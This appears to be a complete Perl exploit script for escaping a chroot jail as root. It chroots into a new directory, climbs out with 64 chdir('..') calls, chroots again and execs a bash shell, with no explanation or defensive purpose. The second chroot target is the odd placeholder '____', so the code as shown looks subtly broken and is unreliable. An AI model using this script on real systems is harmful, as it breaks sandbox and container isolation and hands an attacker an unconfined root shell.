#!/usr/bin/perl
# To be run in the jail, as root.
mkdir "/hole";
chroot "/hole" or die "chroot: $!\n";  # The root goes down.
chdir ".." for 1 .. 64;                # The working directory goes up.
chroot "____" or die "chroot: $!\n";   # The root follows it.
exec "/bin/bash" or print "There is no bash here: $! (Ctrl+C)\n";
sleep;
